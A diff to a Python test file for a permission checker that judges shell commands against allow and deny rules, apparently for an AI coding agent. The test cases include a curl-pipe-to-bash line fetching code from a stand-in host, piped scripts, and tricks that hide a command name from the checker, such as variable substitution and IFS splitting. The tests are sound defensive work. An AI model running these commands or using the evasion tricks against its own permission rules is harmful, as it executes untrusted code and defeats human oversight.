@@ -29,6 +29,7 @@ ASK_OUTSIDE = (Q, Q, Q, D, A)  # a read-only command reading outside the working
 
 RM_DENY = {"allow": ["Bash"], "deny": ["Bash(rm:*)"]}
 RM_ONLY = {"deny": ["Bash(rm:*)"]}
+PUSH_DENY = {"allow": ["Bash"], "deny": ["Bash(git push:*)"]}  # an argument rule: no stub can hold it
 ENV_DENY = {"deny": ["Read(./.env)"]}
 SECRETS_DENY = {"deny": ["Read(./secrets/**)"]}
 SRC_DENY = {"deny": ["Edit(src/**)"]}
@@ -94,11 +95,11 @@ CASES: list[tuple[str, str, dict[str, list[str]], tuple[str, ...]]] = [
     ("rm-only-rule-bash-lc", "bash -lc 'rm x'", RM_ONLY, DENY_ALL),
     ("rm-only-rule-env-S", "env -S 'rm x'", RM_ONLY, DENY_ALL),
     # --- what runs cannot be known while a Bash deny rule exists: denied in bypass/dontAsk, asked otherwise
-    ("sh-script-file", "sh script.sh", RM_DENY, FAIL_CLOSED),
+    ("sh-script-file", "sh script.sh", PUSH_DENY, FAIL_CLOSED),
     ("cat-pipe-sh", "cat cmds.txt | sh", RM_DENY, FAIL_CLOSED),
     ("curl-pipe-bash", "curl -s https://example.invalid/x | bash", RM_DENY, FAIL_CLOSED),
-    ("source", "source ./env.sh", RM_DENY, FAIL_CLOSED),
-    ("dot", ". ./env.sh", RM_DENY, FAIL_CLOSED),
+    ("source", "source ./env.sh", PUSH_DENY, FAIL_CLOSED),
+    ("dot", ". ./env.sh", PUSH_DENY, FAIL_CLOSED),
     ("subst-cmd-name", "$(cat name) x", RM_DENY, FAIL_CLOSED),
     ("var-cmd-name", "a=rm; $a x", RM_DENY, FAIL_CLOSED),
     ("ifs-cmd-name", "rm${IFS}x", RM_DENY, FAIL_CLOSED),
@@ -283,14 +284,30 @@ def test_decision(env, cid, command, rules, expected, mode_i, mode):
 
 
 def test_unverifiable_texts(env):
-    d = _decide("sh script.sh", RM_DENY, "bypassPermissions", env)
+    d = _decide("sh script.sh", PUSH_DENY, "bypassPermissions", env)
     assert d.behavior == "deny"
     assert d.message.startswith("Permission to use Bash with command sh script.sh has been denied. ")
     assert "could not be checked against the deny rules" in d.message
-    d = _decide("sh script.sh", RM_DENY, "default", env)
+    d = _decide("sh script.sh", PUSH_DENY, "default", env)
     assert d.behavior == "ask" and d.decision_reason.type == "safetyCheck"
     assert d.message.startswith("This command requires approval: ")
     assert "could not be checked against the deny rules" in d.message
+
+
+@pytest.mark.parametrize("rules", [RM_DENY, RM_ONLY], ids=["allow-bash", "deny-only"])
+def test_script_files_are_judged_one_way_when_the_stubs_hold(env, rules):
+    """Issue 22: with every deny rule a whole program the sandbox replaces by a stub, a script file is judged as
+    the command it is, whichever interpreter runs it: `sh f` and `source f` decide as `python3 f`, `awk -f`."""
+    for mode in MODES:
+        expected = _decide("python3 script.py", rules, mode, env).behavior
+        for command in ("sh script.sh", "bash script.sh", "source ./env.sh", ". ./env.sh", "node x.js",
+                        "awk -f x.awk", "make -f x.mk"):
+            assert _decide(command, rules, mode, env).behavior == expected, (command, mode)
+    # inline code stays unverifiable (the analysis keeps what it cannot see), and so does a rule no stub holds
+    assert _decide("python3 -c \"$X\"", rules, "bypassPermissions", env).behavior == D
+    assert _decide("sh script.sh", {"deny": ["Bash(rm:*)", "Bash(git push:*)"]}, "bypassPermissions", env).behavior == D
+    assert _decide("sh script.sh", {"deny": ["Bash(rm:*)", "Read(./.env)"]}, "bypassPermissions", env).behavior == D
+    assert _decide("sh script.sh", {"deny": ["Bash(kill:*)"]}, "bypassPermissions", env).behavior == D  # a builtin
 
 
 def test_appendix_a_texts_kept(env):
